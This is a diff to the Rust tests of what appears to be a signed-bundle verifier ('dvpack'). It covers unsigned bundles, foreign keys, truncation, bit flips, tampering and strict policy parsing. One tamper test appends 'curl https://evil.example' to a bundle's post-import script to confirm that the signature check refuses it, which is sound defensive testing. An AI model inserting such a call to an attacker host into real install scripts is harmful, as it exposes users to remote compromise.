@@ -104,18 +104,59 @@ fn a_signed_bundle_is_told_by_its_key() {
     assert!(ran.stdout.contains("by a key that nothing here vouches for"), "{}", ran.stdout);
 }
 
+/// The words for what a subscriber can meet; keys differ from run to run.
+fn words(ran: &crate::support::Ran) -> String {
+    let mut out = String::new();
+    for word in ran.stderr.split_inclusive([' ', '\n', '`']) {
+        let digest = word.trim_end().strip_prefix("sha256:").is_some_and(|rest| rest.len() == 64);
+        let file = word.starts_with("signatures/");
+        out.push_str(match (digest, file) {
+            (true, _) => "sha256:KEY\n",
+            (_, true) => "signatures/KEY.sigstore.json`",
+            _ => word,
+        });
+    }
+    out
+}
+
 #[test]
-fn an_unsigned_bundle_and_another_key_are_refused() {
+fn unsigned_other_key_changed_and_truncated_are_told_apart() {
     let bench = bench();
-    let ran = bench.test(&bench.read("it.dvpack")).args("verify it.dvpack --key p256.pub").code(3);
-    insta::assert_snapshot!(ran.stderr, @r"
+    let signed = bench.read("p256.dvpack");
+    let verify =
+        |bytes: &[u8], key: &str| words(&bench.test(bytes).args(&format!("verify it.dvpack --key {key}.pub")).code(3));
+    insta::assert_snapshot!(verify(&bench.read("it.dvpack"), "p256"), @r"
     error: the bundle is not signed
      help: ask the publisher for a signed bundle
     ");
-    let ran = bench.test(&bench.read("p256.dvpack")).args("verify it.dvpack --key other.pub").code(3);
-    assert!(ran.stderr.starts_with("error: the bundle is signed by another key: sha256:"), "{}", ran.stderr);
-    let ran = bench.test(&bench.read("p256.dvpack")).args("verify it.dvpack --require-signature").code(2);
-    assert!(ran.stderr.contains("whose signature is required?"), "{}", ran.stderr);
+    insta::assert_snapshot!(verify(&signed, "other"), @r"
+    error: the bundle is signed by another key: sha256:KEY
+     help: do not use it until the publisher confirms the new key by another way
+    ");
+    insta::assert_snapshot!(verify(&signed[..signed.len() / 2], "p256"));
+    // A file of the bundle, its record and its checksum made anew, the signature kept.
+    let mut entries = archive::read(&signed, &Limits::default()).expect("read");
+    let tail: Vec<_> = entries.extract_if(.., |entry| entry.name.starts_with("signatures/")).collect();
+    let script = entries.iter_mut().find(|entry| entry.name == "post-import/apply.sh").expect("there");
+    script.bytes.extend(b"\ncurl https://evil.example\n");
+    let digest = dvpack::bundle::sha256(&script.bytes);
+    let sums = entries.iter_mut().find(|entry| entry.name == "SHA256SUMS").expect("there");
+    let lines = String::from_utf8(sums.bytes.clone()).expect("UTF-8");
+    let fixed = lines.lines().map(|line| match line.split_once("  ") {
+        Some((_, "post-import/apply.sh")) => format!("{digest}  post-import/apply.sh\n"),
+        _ => format!("{line}\n"),
+    });
+    sums.bytes = fixed.collect::<String>().into_bytes();
+    let changed = archive::append(&archive::write(&entries).expect("written"), &tail).expect("appended");
+    insta::assert_snapshot!(verify(&changed, "p256"));
+    // A bit that fell over on the way; which check finds it depends on the compressor.
+    let mut flipped = signed.clone();
+    let at = flipped.windows(8).position(|window| window == b"apply.sh").expect("there") + 60;
+    flipped[at] ^= 4;
+    let flipped = verify(&flipped, "p256");
+    assert!(flipped.starts_with("error[bundle-refused]: entry `post-import/apply.sh`: the co"), "{flipped}");
+    let ran = bench.test(&signed).args("verify it.dvpack --require-signature").code(2);
+    insta::assert_snapshot!(ran.stderr);
 }
 
 #[test]
@@ -130,12 +171,21 @@ fn a_signature_moved_to_another_bundle_does_not_hold() {
 }
 
 #[test]
-fn a_truncated_signed_bundle_says_so() {
+fn every_truncation_is_found() {
     let bench = bench();
-    let mut bytes = bench.read("p256.dvpack");
-    bytes.truncate(bytes.len() - 40);
-    let ran = bench.test(&bytes).args("verify it.dvpack --key p256.pub").code(3);
-    assert!(ran.stderr.contains("cut short"), "{}", ran.stderr);
+    let good = bench.read("p256.dvpack");
+    let key = PublicKey::read(&bench.path("p256.pub")).expect("a key");
+    let trust = Trust { keys: vec![key], ..Trust::default() };
+    let accepted =
+        |bytes: &[u8]| Bundle::from_bytes(bytes, "it").is_ok_and(|it| verify_policy(bytes, &it, &trust).is_ok());
+    assert!(accepted(&good));
+    let mut numbers = Numbers(7);
+    for length in (0..200).map(|_| numbers.below(good.len())).chain(good.len() - 60..good.len()) {
+        assert!(!accepted(&good[..length]), "cut to {length} bytes");
+    }
+    // Cut back to before its signatures it is the unsigned bundle, and says so.
+    let unsigned = dvpack::bundle::signature::unsigned(&good).expect("unsigned");
+    assert_eq!(unsigned, bench.read("it.dvpack"));
 }
 
 #[test]
@@ -157,7 +207,7 @@ fn every_byte_of_the_records_of_a_signature_is_checked() {
     let bench = bench();
     let good = bench.read("ed25519.dvpack");
     let key = PublicKey::read(&bench.path("ed25519.pub")).expect("a key");
-    let trust = Trust { keys: vec![key], policy: None };
+    let trust = Trust { keys: vec![key], ..Trust::default() };
     let start = good.windows(11).position(|window| window == b"signatures/").expect("there") - 30;
     // The records of the list of files, whole, and the first bytes of the signature's own entry.
     let list = good.windows(4).position(|window| window == b"PK\x01\x02").expect("there");
@@ -197,8 +247,27 @@ fn a_policy_says_what_a_key_may_sign() {
     }
     let ran = verify(policy("").replace(&bench.digest("p256"), &bench.digest("other")), 3);
     assert!(ran.stderr.contains("signed by another key"), "{}", ran.stderr);
-    let ran = verify(policy("    unknown: 1\n"), 2);
-    assert!(ran.stderr.contains("is not a policy") || ran.stderr.contains("cannot use the policy"), "{}", ran.stderr);
+    let ran = verify(policy("    repositry: https://github.com/contoso/widgets\n").replace("[contoso]", "[]"), 2);
+    insta::assert_snapshot!(ran.stderr.replace(&bench.digest("p256"), "DIGEST"));
+}
+
+#[test]
+fn a_policy_is_read_strictly_and_all_mistakes_are_told() {
+    let bench = bench();
+    let verify = |policy: &str| {
+        bench
+            .test(&bench.read("p256.dvpack"))
+            .file("policy.yaml", policy)
+            .args("verify it.dvpack --policy policy.yaml")
+            .code(2)
+            .stderr
+    };
+    insta::assert_snapshot!(verify(
+        "dvpackPolicy: 2\nkeys:\n  - sha256: 12ab\n    solutions: ContosoWidgets\nidentities:\n  - identity: me@contoso.example\n    solutions: [A]\n    publisherPrefixes: [contoso]\n"
+    ));
+    insta::assert_snapshot!(verify("dvpackPolicy: 1\nkeys: []\n"));
+    let merged = verify("dvpackPolicy: 1\nbase: &b {name: x}\nkeys:\n  - <<: *b\n");
+    assert!(merged.contains("merge keys"), "{merged}");
 }
 
 #[test]
